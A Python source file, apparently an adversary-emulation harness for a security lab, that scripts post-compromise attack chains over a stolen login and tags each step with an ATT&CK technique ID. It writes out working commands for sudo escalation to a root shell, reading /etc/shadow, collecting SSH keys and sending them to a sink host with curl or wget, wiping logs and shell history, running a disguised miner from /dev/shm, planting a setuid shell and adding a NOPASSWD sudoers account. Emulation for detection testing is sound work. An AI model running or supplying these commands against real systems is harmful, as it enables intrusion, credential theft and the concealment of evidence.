"""Chains of somebody who logs in with a stolen key."""

from foreseen.lab.attacks.from_web import stolen_login
from foreseen.lab.attacks.tools import Attack
from foreseen.lab.channels import Login
from foreseen.lab.host import run
from foreseen.lab.layout import SHM, TMP, VAR_TMP
from foreseen.lab.themes import token


def _several(attack: Attack, login: Login, lines: tuple[str, ...], count: int) -> None:
    for line in attack.rng.sample(lines, count):
        login.type(line, attack.rng.uniform(0.6, 3))


def _quietly(*command: str) -> None:
    run(*command, check=False)


def sudo_abuse(attack: Attack) -> None:
    """A permitted tool under sudo gives a root shell, which reads the password hashes."""
    login = stolen_login(attack, "dbadmin")
    attack.run.step("T1069.001")
    login.type("sudo -l", 1.5)
    attack.run.step("T1548.003")
    inner = attack.choose(
        "id; head -3 /etc/shadow", "whoami; cat /etc/shadow | wc -l", "id; ls -la /srv/db/data"
    )
    action = f"exec='sh -c \"{inner}\"'"
    ways = (
        f"sudo find /srv/db/conf -maxdepth 0 -exec /bin/sh -c '{inner}' \\;",
        f"sudo gawk 'BEGIN {{system(\"{inner}\")}}'",
        f"sudo tar cf /dev/null /srv/db/conf --checkpoint=1 --checkpoint-action={action}",
        f"sudo vim.tiny -c ':!{inner}' -c ':q!'",
    )
    login.type(ways[attack.run.number % len(ways)], 2.5)
    login.type("", 0.5)
    attack.run.step("T1003.008")
    login.type("sudo find /etc/shadow -exec cat {} \\; | cut -c1-12 | head -4", 1.5)
    login.close()


def secrets_exfil(attack: Attack) -> None:
    """Keys and settings are found, packed and sent away."""
    path, sink = attack.hidden(), attack.sink()
    login = stolen_login(attack, "alice", "bob", "ops")
    attack.run.step("T1083")
    login.type(
        attack.choose(
            "find /home /srv -name 'id_*' -o -name '*.env' -o -name '*.key' 2>/dev/null",
            "grep -rlE 'PG|password' /srv/*/conf ~ 2>/dev/null",
            "ls -laR /home/*/.ssh 2>/dev/null | head -40",
        ),
        3,
    )
    attack.run.step("T1552.004")
    login.type(attack.choose("cat ~/.ssh/id_ed25519", "sudo cat /home/deploy/.ssh/id_ed25519"), 1.5)
    attack.run.step("T1560.001")
    login.type(
        attack.choose(
            f"sudo tar czf {path} /home/deploy/.ssh /srv/db/conf 2>/dev/null",
            f"zip -q -r - ~/.ssh > {path}",
            "tar cf - ~/.ssh ~/.bash_history 2>/dev/null"
            f" | openssl enc -aes-256-cbc -pbkdf2 -k x1 -out {path}",
        ),
        2,
    )
    attack.run.step("T1048.003")
    login.type(
        attack.choose(
            f"curl -s -T {path} http://{sink}/up/",
            f"curl -s --data-binary @{path} http://{sink}/i",
            f"wget -q -O- --post-file={path} http://{sink}/",
        ),
        2,
    )
    login.type(f"rm -f {path}", 0.6)
    login.close()


def log_clearing(attack: Attack) -> None:
    """Traces are removed: logs, login records, shell history."""
    login = stolen_login(attack, "ops", "bob", "alice")
    attack.run.step("T1070.002")
    _several(
        attack,
        login,
        (
            "sudo rm -f /var/log/shop/access.log",
            "sudo truncate -s 0 /var/log/shop/app.log",
            "sudo sh -c '> /var/log/db/postgresql.log'",
            "sudo shred -n 1 -u /var/log/shop/error.log",
            "sudo sed -i '/check/d' /var/log/shop/app.log",
            "sudo sh -c 'cat /dev/null > /var/log/lastlog'",
            "sudo find /var/log/shop -name '*.gz' -delete",
        ),
        3,
    )
    attack.run.step("T1070.003")
    _several(
        attack,
        login,
        (
            "history -c",
            "rm -f ~/.bash_history",
            "unset HISTFILE",
            "ln -sf /dev/null ~/.bash_history",
            "export HISTSIZE=0",
        ),
        2,
    )
    home = f"/home/{login.user}/.bash_history"
    attack.undo.append(lambda: _quietly("rm", "-f", home))
    login.close()


def miner_like(attack: Attack) -> None:
    """A program with an odd name is fetched into shared memory and keeps a core busy a while."""
    path = attack.hidden(where=(SHM, SHM, VAR_TMP))
    address = attack.serve(program="worker")
    pool = f"{attack.address()}:{attack.rng.choice((3333, 5555, 14444))}"
    login = stolen_login(attack, "ci", "deploy", "dbadmin")
    attack.run.step("T1082")
    _several(
        attack,
        login,
        ("nproc", "lscpu | head -8", "cat /proc/cpuinfo | grep model", "free -m", "uptime"),
        2,
    )
    attack.run.step("T1105")
    login.type(attack.choose(f"curl -so {path} {address}", f"wget -qO {path} {address}"), 1.5)
    login.type(f"chmod +x {path}", 0.6)
    attack.run.step("T1496")
    user = token(attack.rng, 9)
    login.type(
        attack.choose(
            f"nohup {path} -o {pool} -u {user} -t 1 > /dev/null 2>&1 &",
            f"(setsid nice {path} --url {pool} --user {user} > /dev/null 2>&1 &)",
            f"exec -a '[kworker/1:2]' {path} -o {pool} &",
        ),
        5,
    )
    attack.run.step("T1070.004")
    login.type(f"rm -f {path}", 0.5)
    login.close()


_TARGETS = ("deploy@127.0.1.10", "dbadmin@127.0.1.30", "deploy@127.0.1.10")


def lateral_movement(attack: Attack) -> None:
    """From the bastion on to another host with the key that lies there."""
    login = stolen_login(attack, "bob", "alice", "ops")
    target = _TARGETS[attack.run.number % len(_TARGETS)]
    attack.run.step("T1018")
    _several(
        attack,
        login,
        (
            "cat /etc/hosts",
            "cat ~/.ssh/config",
            "ss -tn",
            "for i in 10 20 30; do nc -zv -w1 127.0.1.$i 22; done",
            "arp -an; ip -br a",
        ),
        2,
    )
    attack.run.step("T1021.004")
    quietly = f"ssh -i ~/.ssh/id_ed25519 -o BatchMode=yes {target}"
    login.type(attack.choose(f"ssh {target}", quietly), 2)
    attack.onward()
    attack.run.step("T1083")
    _several(
        attack,
        login,
        (
            "id; sudo -l",
            "ls -la /srv",
            "cat ~/.pgpass /srv/shop/conf/database.env 2>/dev/null",
            "find / -xdev -writable -type d 2>/dev/null | head -5",
            "ps aux | head -20",
            "ls -la /home",
        ),
        4,
    )
    login.type("exit", 0.8)
    login.close()


def setuid_backdoor(attack: Attack) -> None:
    """A copy of the shell with the set-user-id bit is left behind and used."""
    path = attack.hidden(where=(TMP, VAR_TMP, VAR_TMP))
    login = stolen_login(attack, "bob", "alice", "ops")
    attack.run.step("T1548.001")
    login.type(
        attack.choose(f"sudo cp /bin/bash {path}", f"sudo install -m 755 /usr/bin/dash {path}"), 1.5
    )
    login.type(
        attack.choose(
            f"sudo chmod u+s {path}", f"sudo chmod 4755 {path}", f"sudo chmod 6755 {path}"
        ),
        1.5,
    )
    attack.pause()
    attack.run.step("T1059.004")
    look = attack.choose("cat /etc/shadow", "ls -la /srv/db/data", "head -1 /etc/sudoers")
    login.type(
        f"{path} -p -c 'id; {look} | head -2'",
        1.5,
    )
    login.close()


def account_discovery(attack: Attack) -> None:
    """A burst of looking around."""
    login = stolen_login(attack, "ci", "deploy", "alice", "dbadmin")
    attack.run.step("T1087.001")
    lines = (
        "id; whoami", "cat /etc/passwd", "cat /etc/group", "getent passwd | tail", "ls -la /home",
        "last | head", "w; who", "sudo -n -l", "uname -a", "cat /etc/os-release", "hostname",
        "ps auxww", "ss -antp", "ip a", "ip route", "env", "crontab -l", "ls -la /etc/cron*",
        "find / -perm -4000 -type f -xdev 2>/dev/null", "dpkg -l | head -30", "mount", "df -h",
        "lsof -i 2>/dev/null | head", "cat /etc/ssh/sshd_config 2>/dev/null | head",
    )  # fmt: skip
    for line in attack.rng.sample(lines, 12):
        login.type(line, attack.rng.uniform(0.2, 1))
    login.close()


def account_create(attack: Attack) -> None:
    """A new administrator is made."""
    name = attack.choose("support", "backup2", "sysadm", "svc-mon", "helpdesk") + str(
        attack.rng.randint(1, 99)
    )
    attack.undo.append(lambda: _quietly("userdel", "-r", name))
    attack.undo.append(lambda: _quietly("rm", "-f", f"/etc/sudoers.d/{name}"))
    login = stolen_login(attack, "alice", "ops", "bob")
    attack.run.step("T1136.001")
    uid = 61100 + attack.rng.randint(0, 400)
    login.type(
        attack.choose(
            f"sudo useradd -m -u {uid} -s /bin/bash {name}", f"sudo useradd -M -N -u {uid} {name}"
        ),
        3,
    )
    attack.run.step("T1098")
    login.type(
        attack.choose(
            f"echo '{name} ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/{name}",
            f"sudo usermod -aG sudo {name}",
        ),
        2,
    )
    login.type(f"id {name}; sudo -l -U {name}", 1.5)
    login.close()
